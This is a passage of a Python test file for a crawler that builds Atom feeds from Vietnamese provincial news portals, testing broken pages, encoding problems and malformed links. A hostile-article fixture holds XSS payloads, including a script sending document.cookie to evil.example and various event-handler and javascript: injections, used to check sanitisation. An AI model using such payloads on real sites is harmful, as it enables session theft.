        "noise": ("/loi/rac.html", "Bài viết trả về một chuỗi byte rác"),
        "vni": ("/loi/vni.html", "Bài viết gõ bằng phông VNI Times cũ"),
    }
    server.add_route(Route(path="/loi-list", body=_list_page(list(entries.values()))))
    server.add_route(Route(path=entries["good"][0], body=_crawl_article(entries["good"][1])))
    server.add_route(Route(path=entries["http500"][0], status=500, body="<h1>Lỗi máy chủ</h1>"))
    server.add_route(
        Route(
            path=entries["image"][0],
            body="\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01",
            content_type="image/jpeg",
        )
    )
    server.add_route(
        Route(path=entries["noise"][0], file=str(tmp_path / "noise.bin"), content_type="text/html")
    )
    server.add_route(
        Route(
            path=entries["vni"][0],
            file=str(tmp_path / "vni.html"),
            content_type="text/html; charset=windows-1252",
        )
    )
    server.add_route(
        Route(path="/rac-list", file=str(tmp_path / "noise.bin"), content_type="text/html")
    )
    (fresh_site.sources_dir / "broken.toml").write_text(
        _source_toml("broken-answers", base, "/loi-list")
        + _source_toml("noise-list", base, "/rac-list", province="nghe-an"),
        encoding="utf-8",
    )

    outcomes = {
        o.source_id: o for o in fresh_site.crawl(["broken-answers", "noise-list"], now=CRAWL_NOW)
    }

    # The list page of bytes: a failed run with its reason, nothing stored.
    noise = outcomes["noise-list"]
    assert (noise.status, noise.new, noise.errors) == ("failed", 0, 1)
    [(status, _, _, message, stats)] = _runs(fresh_site.db, "noise-list")
    assert status == "failed"
    assert message is not None and "list container is missing" in message
    assert stats["broken_lists"] == [f"{base}/rac-list"]

    # The article pages: one lands, every other one is an error or a drop with a reason.
    broken = outcomes["broken-answers"]
    assert broken.status == "partial"
    assert broken.new == 1
    [(status, errors, dropped, message, stats)] = _runs(fresh_site.db, "broken-answers")
    assert message is not None
    reasons = {
        "http500": "HTTP 500",
        "image": "not an HTML page (Content-Type 'image/jpeg')",
        "vni": "VNI font-encoded text",
    }
    for key, reason in reasons.items():
        assert f"article {base}{entries[key][0]}: {reason}" in message, (key, message)
    assert stats["error_kinds"] == {"article": 3}
    # The page of noise bytes decodes to text without a title or body of its own: dropped.
    assert stats["dropped_reasons"] == {"no_body": 1}
    assert (errors, dropped) == (3, 1)
    assert errors + dropped == len(entries) - broken.new
    urls = {u for (u,) in _query(fresh_site.db, "SELECT url FROM articles")}
    assert urls == {fresh_site.url("hungyen", entries["good"][0])}
    # The dropped page is archived raw (without an article) for a later re-extraction.
    assert _query(
        fresh_site.db, "SELECT url, article_id FROM raw_pages WHERE url LIKE ?", "%/loi/rac.html"
    ) == [(f"{base}{entries['noise'][0]}", None)]


HOSTILE_BODY = (
    f"<p>{P1}</p>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    "<p onclick=alert(1)>Đoạn có <a href='JaVaScRiPt:alert(1)'>liên kết độc</a> và "
    "<a href='/van-ban/qd-12.pdf'>qd-12.pdf</a>.</p>"
    "<iframe src='https://evil.example/'></iframe><svg onload=alert(1)></svg>"
    "<p style='text-align:center'><img src='/upload/anh.jpg' onerror=alert(1)></p>"
    "<p style='text-align:center'><em>Quang cảnh\x0b hội nghị<script>alert(1)</script></em></p>"
    f"<p>{P2}\x00\x1b\u200b</p><!--<script>alert(1)</script>-->"
    "<p>Tác giả: <b onmouseover=alert(1)>Lê\x00 Thị\u200b Hoa</b></p>"
)


@pytest.mark.slow
def test_a_hostile_article_is_stored_clean_and_makes_a_valid_feed(fresh_site: Site) -> None:
    server = fresh_site.servers["hungyen"]
    base = server.base_url
    path, title = "/doc/bai-doc-hai.html", "Hội nghị\x00 sơ kết\u200b chuyển đổi số"
    server.add_route(Route(path="/doc-list", body=_list_page([(path, "Hội nghị sơ kết")])))
    server.add_route(
        Route(
            path=path,
            body=article_page(HOSTILE_BODY, title=title + "<script>alert(1)</script>"),
        )
    )
    (fresh_site.sources_dir / "doc.toml").write_text(
        _source_toml("hostile-portal", base, "/doc-list"), encoding="utf-8"
    )

    outcome = fresh_site.crawl(["hostile-portal"], now=CRAWL_NOW)[0]
    assert (outcome.status, outcome.new, outcome.errors, outcome.dropped) == ("ok", 1, 0, 0)

    con = sqlite3.connect(fresh_site.db)
    con.row_factory = sqlite3.Row
    row = con.execute("SELECT * FROM articles WHERE source_id = 'hostile-portal'").fetchone()
    con.close()
    assert row["title"] == "Hội nghị sơ kết chuyển đổi số"
    assert row["author"] == "Lê Thị Hoa"
    assert_safe_html(row["content_html"])
    assert P1 in row["content_text"] and P2 in row["content_text"]
    assert "Quang cảnh hội nghị" in row["content_text"]
    assert f"{base}/van-ban/qd-12.pdf" in row["content_html"]
    assert f'<img src="{base}/upload/anh.jpg">' in row["content_html"]
    for key in row.keys():  # noqa: SIM118 (sqlite3.Row has no __iter__ over names)
        value = row[key]
        if isinstance(value, str):
            assert strip_illegal(value) == value, (key, value)
    for key in ("title", "author", "content_text", "summary"):
        assert "\u200b" not in (row[key] or ""), key

    fresh_site.build()
    data = (fresh_site.out / "province" / "thanh-hoa.atom").read_bytes()
    lxml.etree.fromstring(data)
    feed = feedparser.parse(data)
    assert feed.bozo == 0, feed.get("bozo_exception")
    [entry] = feed.entries
    assert entry.title == "Hội nghị sơ kết chuyển đổi số"
    assert entry.author == "Lê Thị Hoa"
    root = lxml.etree.fromstring(data)
    content = root.find("{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}content")
    assert content is not None and content.get("type") == "html"
    assert_safe_html(content.text or "")


@pytest.mark.slow
def test_an_article_that_breaks_extraction_is_not_lost_silently(fresh_site: Site) -> None:
    server = fresh_site.servers["hungyen"]
    base = server.base_url
    path, title = "/vt/bai-co-ky-tu-dieu-khien.html", "Bài viết có ký tự điều khiển từ Word"
    server.add_route(Route(path="/vt-list", body=_list_page([(path, title)])))
    body = (
        f"<p>{P1}</p><p><!--[if gte mso 9]><xml><w:WordDocument/></xml><![endif]-->"
        f"Dòng một&#11;dòng hai. {P2}</p>"
    )
    server.add_route(Route(path=path, body=article_page(body, title=title)))
    (fresh_site.sources_dir / "vt.toml").write_text(
        _source_toml("vt-portal", base, "/vt-list"), encoding="utf-8"
    )

    outcome = fresh_site.crawl(["vt-portal"], now=CRAWL_NOW)[0]

    stored = _query(fresh_site.db, "SELECT content_text FROM articles")
    [(_, errors, dropped, message, _)] = _runs(fresh_site.db, "vt-portal")
    landed = len(stored) == 1 and P2 in str(stored[0][0])
    recorded = errors + dropped >= 1 and message is not None and path in message
    assert landed or recorded, (outcome, stored, message)


@pytest.mark.slow
def test_a_malformed_link_on_a_list_page_fails_nothing_else(fresh_site: Site) -> None:
    server = fresh_site.servers["hungyen"]
    base = server.base_url
    good = ("/ml/hoi-nghi.html", "Hội nghị chuyển đổi số của tỉnh năm 2026")
    server.add_route(
        Route(
            path="/ml-list",
            body=_list_page([good, ("http://[::1", "Bài có đường dẫn hỏng trên trang danh sách")]),
        )
    )
    server.add_route(Route(path=good[0], body=_crawl_article(good[1])))
    (fresh_site.sources_dir / "ml.toml").write_text(
        _source_toml("malformed-list", base, "/ml-list"), encoding="utf-8"
    )

    outcome = fresh_site.crawl(["malformed-list"], now=CRAWL_NOW)[0]

    assert outcome.status in {"ok", "partial"}, outcome
    assert outcome.new == 1
